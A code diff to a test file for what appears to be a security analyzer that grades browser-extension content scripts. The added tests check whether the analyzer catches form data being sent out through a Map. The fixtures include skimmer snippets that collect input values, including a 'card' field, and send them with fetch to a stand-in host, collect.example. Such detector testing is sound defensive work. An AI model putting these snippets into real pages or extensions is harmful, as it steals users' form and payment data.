@@ -1,6 +1,7 @@
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { analyze } from '../analyze.ts';
 import { memoryTree } from '../sources/memory.ts';
+import { graded } from '../testing/graded.ts';
 
 const MANIFEST = JSON.stringify({
   manifest_version: 3,
@@ -8,7 +9,7 @@ const MANIFEST = JSON.stringify({
   version: '1',
   content_scripts: [{ matches: ['<all_urls>'], js: ['fields.js', 'send.js'] }],
 });
-const graded = async (property: string): Promise<string> => {
+const gradedBy = async (property: string): Promise<string> => {
   const { score } = await analyze(
     memoryTree({
       'manifest.json': MANIFEST,
@@ -21,6 +22,28 @@ const graded = async (property: string): Promise<string> => {
 };
 
 it('elements that a function of another script finds, and one more is handed by its name', async () => {
-  expect(await graded('el.value')).toBe('F');
-  expect(await graded('el.tagName')).toMatch(/^A/);
+  expect(await gradedBy('el.value')).toBe('F');
+  expect(await gradedBy('el.tagName')).toMatch(/^A/);
+});
+
+describe('elements that a map holds', () => {
+  const sent = async (use: string): Promise<string> =>
+    graded({
+      content: `document.addEventListener('click', () => { const found = new Map(); for (const el of document.querySelectorAll('input')) found.set(el.name, el); fetch('https://collect.example/i?' + ${use}); });`,
+    });
+  it.each([
+    "[...found].map(([name, el]) => name + el.value).join('|')",
+    "[...found].map((pair) => pair[1].value).join('|')",
+    "Array.from(found, ([name, el]) => el.value).join('|')",
+    "found.get('card').value",
+    'Object.fromEntries(found).card.value',
+  ])('and gives as pairs or by their names: %s', async (use) => {
+    expect(await sent(use)).toBe('F');
+  });
+  it.each(["[...found].map(([name, el]) => el.tagName).join('|')", "found.get('card').tagName"])(
+    'say nothing by what is no value: %s',
+    async (use) => {
+      expect(await sent(use)).toMatch(/^A/);
+    },
+  );
 });
